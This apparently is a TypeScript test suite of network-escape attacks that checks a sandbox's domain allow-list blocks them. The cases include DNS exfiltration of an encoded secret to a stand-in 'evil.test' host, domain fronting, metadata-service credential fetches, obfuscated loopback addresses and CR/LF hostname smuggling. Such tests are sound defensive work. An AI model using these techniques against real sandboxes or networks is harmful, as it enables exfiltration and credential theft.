import { strict as assert } from 'node:assert';

import type { Attack } from '../attack';
import { ALLOWED, ENGINE, reachesAllowed, target, unreachable } from '../network-target';

const RESPONDER = 'the DNS responder, which asks nobody';
const VETTING = 'the vetting of what a name resolved to; the vetted address is what is dialled';

export const networkAttacks: readonly Attack[] = [
  unreachable({ id: 'N01', name: 'connect to an address past every proxy', outcome: 'ECONNRESET or ECONNREFUSED', hosts: ['192.0.2.1', '2001:db8::1'] }),
  {
    id: 'N01a',
    name: 'send UDP, and speak QUIC',
    outcome: 'ECONNREFUSED at once, so that clients fall back to TCP',
    stoppedBy: 'the network of the sandbox, in which nobody listens on UDP but the DNS responder',
    async attempt(lab) {
      const { run } = await target(lab, ALLOWED);
      const source = "for (const [type, host] of [['udp4', '192.0.2.1'], ['udp6', '2001:db8::1'], ['udp4', 'good.test']]) { const s = require('node:dgram').createSocket(type); await new Promise((resolve) => { s.on('error', (e) => { console.log(e.code); s.close(resolve); }); s.connect(443, host, () => { let open = true; s.on('error', () => (open = false)); const again = () => open && s.send('quic', () => setImmediate(again)); again(); }); }); } process.exit();";
      assert.equal(await run(source), 'ECONNREFUSED\nECONNREFUSED\nECONNREFUSED');
    },
    allowed: reachesAllowed,
  },
  {
    id: 'N02',
    name: 'tell a secret in a DNS name',
    outcome: 'NXDOMAIN; no query leaves',
    stoppedBy: RESPONDER,
    async attempt(lab) {
      const asked: string[] = [];
      const sandbox = await lab.open({ policy: { network: { allowedDomains: ['good.test'] } }, lookup: (name) => (asked.push(name), Promise.resolve([])) });
      const source = "const r = new (require('node:dns').promises.Resolver)(); r.setServers(['192.0.2.53']); (async () => { for (const type of ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'SRV']) console.log(await r.resolve('c2VjcmV0.evil.test', type).catch((e) => e.code)); })()";
      const { stdout } = await sandbox.run([process.execPath, '-e', source]);
      assert.deepEqual([new Set(stdout.trim().split('\n')), asked, sandbox.violations()], [new Set(['ENOTFOUND']), [], ['resolve c2vjcmv0.evil.test /network/allowedDomains']]);
    },
    allowed: reachesAllowed,
  },
  unreachable({ id: 'N04', name: 'have an empty allow list mean everything', outcome: 'nothing is reached', hosts: ['good.test', '127.0.0.2', '192.0.2.1'], network: () => ({ allowedDomains: [] }) }),
  unreachable({ id: 'N05', name: 'pass as a subdomain by a name that ends or starts alike', outcome: 'unknown, and refused by the proxies', hosts: ['evilgood.test', 'good.test.evil.test', 'a.good.test@evil.test', 'good.test.'.repeat(3) + 'evil.test'], network: (port) => ({ allowedDomains: [`*.good.test:${port}`, '127.0.0.1'] }) }),
  unreachable({ id: 'N06', name: 'reach the apex by its wildcard', outcome: 'a wildcard covers names below, and never the name itself or an empty label', hosts: ['good.test', '.good.test', '..good.test'], network: (port) => ({ allowedDomains: [`*.good.test:${port}`, '127.0.0.1:1'] }) }),
  unreachable({
    id: 'N07',
    name: 'spell an address so that no rule knows it',
    outcome: 'normalized, then refused',
    hosts: ['2130706433', '0x7f.1', '0177.0.0.1', '127.1', '::ffff:127.0.0.1', '::', '64:ff9b::7f00:1', '2002:7f00:1::', '0'],
    network: (port) => ({ allowedDomains: [`good.test:${port}`], deniedDomains: ['127.0.0.1', '[::1]'] }),
  }),
  unreachable({ id: 'N08', name: 'spell a denied name so that the rule does not know it', outcome: 'normalized, then refused; or malformed', hosts: ['BAD.good.test', 'bad.good.test.', 'bad。good.test', 'ba\u00add.good.test', 'bad%2egood.test', 'ｂａｄ.good.test'], network: (port) => ({ allowedDomains: [`*.good.test:${port}`, '127.0.0.1'], deniedDomains: ['bad.good.test'] }) }),
  unreachable({ id: 'N09', name: 'end a name early with NUL, CR, LF, a space or a tab', outcome: 'malformed', hosts: ['evil.test\r.good.test', 'evil.test\n.good.test', 'evil.test .good.test', 'evil.test\t.good.test', 'good.test\r\nX: y'], network: (port) => ({ allowedDomains: [`*.good.test:${port}`, `good.test:${port}`, '127.0.0.1'] }) }),
  {
    id: 'N10',
    name: 'have an allowed name resolve to this machine',
    outcome: 'refused; looked up once, so that a second answer cannot differ',
    stoppedBy: VETTING,
    async attempt(lab) {
      for (const address of ['127.0.0.1', '::1', '::ffff:127.0.0.1', '169.254.169.254', '0.0.0.0', '64:ff9b::7f00:1']) {
        const { run, received, sandbox } = await target(lab, (port) => ({ allowedDomains: [`good.test:${port}`] }), { address });
        assert.match(await run("console.log(await tcp('good.test'), await socks('good.test'), await tunnel('good.test:' + port))"), /^(ECONNRESET|closed) socks 2 403$/);
        assert.deepEqual([received(), new Set(sandbox.violations()).size], ['', 1]); // from the network and from the proxy
      }
    },
    allowed: reachesAllowed,
  },
  unreachable({ id: 'N11', name: 'fetch credentials from the metadata service, on an unrestricted network', outcome: 'refused unless listed', hosts: ['169.254.169.254', 'fd00:ec2::254', '100.100.100.200', '127.0.0.1'], network: () => ({ unrestricted: true }) }),
  {
    id: 'N12',
    name: 'ask for one server and shake hands for another (domain fronting)',
    outcome: 'reset before a byte leaves',
    stoppedBy: 'the server name of the TLS handshake, held against the name that was asked for',
    async attempt(lab) {
      const { run, received, sandbox, port } = await target(lab, ALLOWED);
      const source = "const tls = require('node:tls'); const shake = (socket) => new Promise((resolve) => tls.connect({ ...(socket ? { socket } : { host: 'good.test', port }), servername: 'evil.test' }).on('error', (e) => resolve(e.code))); console.log(await shake()); const s = proxy(); s.write('CONNECT good.test:' + port + ' HTTP/1.1\\r\\n\\r\\n'.replace('\\r\\n', '\\r\\nHost: x\\r\\n')); await first(s); console.log(await shake(s));";
      assert.equal(await run(source), 'ECONNRESET\nECONNRESET');
      assert.deepEqual([received(), new Set(sandbox.violations())], ['', new Set([`connect evil.test:${port} /network/allowedDomains`])]);
    },
    async allowed(lab) {
      const { run, received } = await target(lab, ALLOWED);
      await run("const socket = require('node:tls').connect({ host: 'good.test', port, servername: 'good.test' }).on('error', () => process.exit()); setTimeout(() => socket.destroy(), 300)");
      assert.ok(received().includes('good.test'));
    },
  },
  {
    id: 'N18',
    name: 'use a port that the rule does not name',
    outcome: 'refused; a malformed port is a bad request',
    stoppedBy: ENGINE,
    async attempt(lab) {
      const { run, received } = await target(lab, (port) => ({ allowedDomains: ['good.test:443', `web.test`, '127.0.0.1'], defaultPorts: [80, 443], deniedDomains: [`none.test:${port}`] }));
      const answers = await run("for (const host of ['good.test', 'web.test']) console.log(await tcp(host), await socks(host), await tunnel(host + ':' + port)); for (const suffix of [':0', ':65536', ':443abc', ':+443', ': 443', '']) console.log(await tunnel('good.test' + suffix));");
      assert.deepEqual(answers.split('\n').filter((line) => /ok|end$/.test(line)), []);
      assert.equal(received(), '');
    },
    allowed: reachesAllowed,
  },
  {
    id: 'N20',
    name: 'have the SOCKS port bind, relay UDP, or speak an older version',
    outcome: 'refused',
    stoppedBy: 'the SOCKS5 server, which only connects',
    async attempt(lab) {
      const { run, received } = await target(lab, ALLOWED);
      const source = "for (const command of [2, 3, 0, 9]) console.log(await socks('good.test', { command })); for (const bytes of [[4, 1, port >> 8, port & 255, 127, 0, 0, 1, 0], [5, 0], [5, 1, 2], [5, 255], [6, 6, 6]]) { const s = proxy(); s.end(Buffer.from(bytes)); const reply = await first(s); console.log(Buffer.isBuffer(reply) ? (reply[1] === 0 || reply[1] === 90 ? 'ok' : 'no') : 'no'); s.destroy(); } for (const host of ['', 'x'.repeat(255)]) console.log(await socks(host));";
      const answers = await run(source);
      assert.deepEqual([answers.split('\n').filter((line) => line === 'ok'), received()], [[], '']);
    },
    allowed: reachesAllowed,
  },
  {
    id: 'N30',
    name: "reach the host's loopback, or be reached from outside",
    outcome: "the sandbox's loopback is its own; a connect to a port that is only there on the host is refused and reported",
    stoppedBy: 'the network namespace',
    async attempt(lab) {
      const { run, received, sandbox, port } = await target(lab, () => ({}));
      assert.equal(await run("console.log(await tcp('127.0.0.1'), await tcp('::1'), await tcp('localhost'), await tunnel('localhost:' + port))"), 'ECONNREFUSED ECONNREFUSED ECONNREFUSED 403');
      assert.deepEqual([received(), new Set(sandbox.violations())], ['', new Set([`connect localhost:${port} /network/allowedDomains`])]);
    },
    async allowed(lab) {
      const { run } = await target(lab, (port) => ({ allowedDomains: [`localhost:${port}`] }));
      assert.equal(await run("console.log(await tcp('127.0.0.1'))"), 'ok');
    },
  },
];
